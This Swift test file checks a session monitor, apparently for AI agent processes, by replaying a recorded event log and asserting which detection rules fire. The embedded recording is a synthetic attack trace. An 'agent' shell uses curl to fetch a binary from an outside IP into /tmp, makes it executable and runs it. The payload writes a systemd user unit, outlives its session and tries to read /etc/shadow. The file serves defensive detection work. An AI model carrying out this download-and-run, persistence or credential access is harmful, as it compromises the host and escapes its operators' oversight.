import XCTest
@testable import TetherCore

/// A recorded session (JSON lines as `tether run --events` writes them) replayed the way
/// `tether replay` does: decode, process table, classifier, tick.
final class ReplayTests: XCTestCase {
    static let recording = #"""
    {"kind":"exec","time":1000000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/usr/bin/bash","argv":["bash","-c","agent"],"cwd":"/home/dev/proj","session_start":true}
    {"kind":"open","time":1001000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":3,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/home/dev/proj/main.py","flags":["write","create","truncate"],"raw_flags":577,"mode":"644"}
    {"kind":"fork","time":1002000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":4001,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"target":4001}
    {"kind":"exec","time":1003000000,"pid":4001,"tid":4001,"ppid":4000,"session":"00000000000a11ce","comm":"curl","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/usr/bin/curl","argv":["curl","-so","/tmp/payload","https://203.0.113.7/p"],"cwd":"/home/dev/proj"}
    {"kind":"connect","time":1004000000,"pid":4001,"tid":4001,"ppid":4000,"session":"00000000000a11ce","comm":"curl","result":-115,"error":"EINPROGRESS","uid":1000,"euid":1000,"gid":1000,"egid":1000,"family":"inet","addr":"203.0.113.7","port":443}
    {"kind":"open","time":1005000000,"pid":4001,"tid":4001,"ppid":4000,"session":"00000000000a11ce","comm":"curl","result":5,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/tmp/payload","flags":["write","create","truncate"],"raw_flags":577,"mode":"644"}
    {"kind":"exit","time":1006000000,"pid":4001,"tid":4001,"ppid":4000,"session":"00000000000a11ce","comm":"curl","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"exit_code":0}
    {"kind":"chmod","time":1007000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/tmp/payload","mode":"755"}
    {"kind":"fork","time":1008000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":4002,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"target":4002}
    {"kind":"exec","time":1009000000,"pid":4002,"tid":4002,"ppid":4000,"session":"00000000000a11ce","comm":"payload","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/tmp/payload","argv":["/tmp/payload"],"cwd":"/home/dev/proj"}
    {"kind":"open","time":1010000000,"pid":4002,"tid":4002,"ppid":4000,"session":"00000000000a11ce","comm":"payload","result":6,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/home/dev/.config/systemd/user/payload.service","flags":["write","create","truncate"],"raw_flags":577,"mode":"644"}
    {"kind":"setsid","time":1011000000,"pid":4002,"tid":4002,"ppid":4000,"session":"00000000000a11ce","comm":"payload","result":4002,"uid":1000,"euid":1000,"gid":1000,"egid":1000}
    {"kind":"exit","time":1012000000,"pid":4000,"tid":4000,"ppid":3999,"session":"00000000000a11ce","comm":"bash","result":0,"uid":1000,"euid":1000,"gid":1000,"egid":1000,"exit_code":0}
    {"kind":"open","time":30000000000,"pid":4002,"tid":4002,"ppid":1,"session":"00000000000a11ce","comm":"payload","result":-13,"error":"EACCES","uid":1000,"euid":1000,"gid":1000,"egid":1000,"path":"/etc/shadow","flags":["read"],"raw_flags":0}
    """#

    func replay(_ text: String, policy: Policy = .default) throws -> [Finding] {
        let events = try EventJSON.decodeLines(text)
        let c = Classifier(policy: policy)
        c.homeDirectory = { $0 == 1000 ? "/home/dev" : nil }
        let table = ProcessTable()
        var out: [Finding] = []
        for var e in events {
            table.apply(&e)
            out += c.process(e, table: table)
            out += c.tick(now: e.time, table: table)
        }
        return out
    }

    func testRecordedAttack() throws {
        let f = try replay(ReplayTests.recording)
        XCTAssertEqual(f.map(\.rule), [
            "evasion.download_exec",     // /tmp/payload fetched by curl, chmod 755, run
            "persist.systemd",           // user unit written by the payload
            "persist.outlived_session",  // payload alive 29 s after bash exited (grace 10 s)
            "escape.credentials",        // and reads /etc/shadow (refused)
        ])
        let dl = f[0]
        XCTAssertEqual(dl.pid, 4002)
        XCTAssertEqual(dl.events.map(\.kind), [.open, .chmod, .exec], "the write, the chmod and the exec are the evidence")
        XCTAssertEqual(dl.ancestry.map(\.exe), ["/tmp/payload", "/usr/bin/bash"])
        XCTAssertEqual(f[2].pid, 4002)
        XCTAssertTrue(f.allSatisfy { $0.session == SessionID(0xa11ce) })
    }

    func testCorruptLineNamesItsLine() {
        let bad = ReplayTests.recording.split(separator: "\n").prefix(3).joined(separator: "\n") + "\n{\"kind\":\"open\",\"time\":1}\n"
        XCTAssertThrowsError(try replay(bad)) { error in
            let e = error as! EventJSON.DecodeError
            XCTAssertEqual(e.line, 4)
            XCTAssertTrue(e.message.contains("missing field"), e.message)
        }
    }
}
